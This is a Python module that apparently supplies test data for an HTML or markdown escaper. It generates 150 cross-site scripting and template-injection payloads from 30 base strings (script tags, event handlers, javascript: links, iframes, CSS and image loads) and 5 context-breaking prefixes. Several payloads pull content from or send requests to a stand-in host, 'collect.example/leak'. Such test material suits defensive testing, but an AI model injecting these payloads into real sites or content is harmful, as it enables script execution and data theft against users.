"""150 texts that would run a script, load something from elsewhere or break out, where they were not escaped."""

_RUN = "window.hacked=1"
_ELSEWHERE = "https://collect.example/leak"
_BARE = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC={_ELSEWHERE}.js></SCRIPT>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_ELSEWHERE}.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src={_ELSEWHERE}></iframe>",
    f"<object data={_ELSEWHERE}></object>",
    f"<embed src={_ELSEWHERE}>",
    f"<video src=x onerror={_RUN}></video>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<form action={_ELSEWHERE}><button>x</button></form>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
    f"<base href={_ELSEWHERE}/>",
    f"<link rel=stylesheet href={_ELSEWHERE}.css>",
    f"<style>@import '{_ELSEWHERE}.css';</style>",
    f"<div style=\"background:url('{_ELSEWHERE}.png')\">x</div>",
    f"![x]({_ELSEWHERE}.png)",
    f"[x](javascript:{_RUN})",
    f"[x]: {_ELSEWHERE}\n\n![x]",
    "{{constructor.constructor('" + _RUN + "')()}}",
    "${" + _RUN + "}",
    "{@html '<img src=x onerror=" + _RUN + ">'}",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
)
_BEFORE = ("", "\"'>", "</mark></p></article>", "-->", "</textarea></title>\u2028")
PAYLOADS = [before + bare for bare in _BARE for before in _BEFORE]
